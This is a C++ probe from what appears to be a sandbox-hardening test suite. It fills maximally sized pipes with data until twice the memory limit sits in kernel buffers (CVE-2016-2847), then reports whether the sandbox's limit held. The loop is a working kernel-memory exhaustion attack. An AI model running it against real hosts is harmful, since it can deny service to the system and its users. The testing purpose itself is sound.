/// 615_pipe_memory: fills pipes of the largest size until twice the memory limit lies in them.
/// Published: CVE-2016-2847.
/// Expected: the memory limit counts kernel memory; pipes have limits of their own.
#include <fcntl.h>
#include <unistd.h>

#include <array>

#include "attack/probes/table.h"
#include "attack/probes/tools.h"

namespace brig::attack::probes {
namespace {

constexpr runtime::Cause kEnds[] = {runtime::Cause::kMemoryLimit};
Finding run(const Args& args) {
  const long enough = args.number("memory", 64 << 20) * 2;
  const std::string block(64 << 10, 'x');
  long have = 0;
  while (have < enough) {
    std::array<int, 2> ends{};
    if (::pipe2(ends.data(), O_NONBLOCK | O_CLOEXEC) != 0) break;
    ::fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
    for (ssize_t n = 0; (n = ::write(ends[1], block.data(), block.size())) > 0;) have += n;
  }
  const std::string text = std::to_string(have >> 20) + " MiB in pipes";
  return have >= enough ? breached(text) : held(text + ", then " + error_name(errno));
}

}  // namespace

constinit const Probe k615PipeMemory = {
    .name = "615_pipe_memory",
    .group = Group::kResources,
    .attack = "take kernel memory in pipes",
    .cve = "CVE-2016-2847",
    .refusal = "the memory limit counts kernel memory; pipes have limits of their own",
    .run = run,
    .held_if_ended_by = kEnds,
    .weakness = "memory:",
};

}  // namespace brig::attack::probes
